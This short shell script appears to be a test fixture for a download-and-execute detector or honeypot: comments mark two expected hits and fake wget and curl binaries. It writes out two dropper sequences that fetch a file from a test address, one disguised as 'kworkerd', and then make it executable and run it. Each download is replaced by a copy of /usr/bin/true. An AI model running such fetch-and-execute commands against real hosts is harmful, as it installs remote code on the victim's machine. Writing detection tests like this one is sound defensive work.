# SPDX-License-Identifier: Apache-2.0
# hits: 2
# fake: /usr/bin/wget /usr/bin/curl
wget -q http://192.0.2.7/kworkerd -O /tmp/kworkerd
cp /usr/bin/true /tmp/kworkerd
chmod 755 /tmp/kworkerd
/tmp/kworkerd
cd /var/tmp
curl -sO http://192.0.2.7/d
cp /usr/bin/true d
chmod +x d
./d
